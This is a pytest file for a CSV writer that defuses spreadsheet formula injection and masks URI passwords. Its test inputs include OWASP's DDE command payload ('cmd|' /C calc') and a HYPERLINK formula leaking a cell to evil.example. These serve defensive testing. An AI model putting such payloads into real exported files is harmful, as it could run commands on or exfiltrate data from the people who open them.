"""src/spreadsheet.py: the one CSV writer: no cell a spreadsheet formula (OWASP's CSV injection advice), numbers kept
numbers, secrets of URIs as ``***``, a line break inside a cell kept in its cell; files read back with pandas and
:mod:`csv` as a spreadsheet or a script would."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from src.spreadsheet import inert, write_csv


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),  # OWASP's DDE example
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        ),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("   =1+1", "'   =1+1"),  # spaces first: some spreadsheets trim them
        ("\uff1d1+1", "'\uff1d1+1"),  # a full-width equals sign
        ("\uff20SUM(1)", "'\uff20SUM(1)"),
        ("-", "'-"),
        ("--", "'--"),
        ("-inf", "'-inf"),  # a word, not a decimal number
        ("-0.5", "-0.5"),
        ("+3", "+3"),
        ("1e-3", "1e-3"),
        ("-1.5E+07", "-1.5E+07"),
        (" -0.5 ", " -0.5 "),
        (".5", ".5"),
        ("resnet18", "resnet18"),
        ("a=1+1", "a=1+1"),  # a formula sign later in a cell starts nothing
        ("", ""),
        ("http://alice:pw@host:5000", "http://alice:***@host:5000"),
        ("=http://alice:pw@host", "'=http://alice:***@host"),
        (-0.5, -0.5),
        (3, 3),
        (None, None),
    ],
)
def test_a_cell_is_written_inert(cell, written):
    assert inert(cell) == written


def test_a_table_read_back_has_no_formula_and_its_numbers(tmp_path):
    frame = pd.DataFrame(
        {
            "name": ["=1+1", "-0.5", "a\rb", "line\nbreak", None],
            "-score": [-0.5, 1e-3, np.nan, -np.inf, 2.0],  # a header that would start a formula
            "count": [1, -2, 3, 4, 5],
            "kind": pd.Categorical(["@x", "y", "@x", "y", "y"]),
        }
    )
    path = tmp_path / "t.csv"
    write_csv(frame, path, float_format="%.9g")
    with open(path, newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["name", "'-score", "count", "kind"]
    assert [row[0] for row in rows[1:]] == ["'=1+1", "-0.5", "a\rb", "line\nbreak", ""]  # one row each
    assert [row[3] for row in rows[1:]] == ["'@x", "y", "'@x", "y", "y"]
    read = pd.read_csv(path)
    assert read["'-score"].tolist()[:2] == [-0.5, 1e-3] and read["'-score"].isna().tolist()[2]
    assert read["'-score"].tolist()[3] == -np.inf and read["count"].tolist() == [1, -2, 3, 4, 5]
    assert frame["name"].tolist()[0] == "=1+1"  # the caller's frame untouched


def test_duplicate_headers_and_an_empty_table(tmp_path):
    frame = pd.DataFrame([["=a", "=b"]], columns=["x", "x"])
    write_csv(frame, tmp_path / "d.csv")
    assert (tmp_path / "d.csv").read_bytes() == b"x,x\r\n'=a,'=b\r\n"
    write_csv(pd.DataFrame(columns=["param", "=value"]), tmp_path / "e.csv")
    assert (tmp_path / "e.csv").read_bytes() == b"param,'=value\r\n"
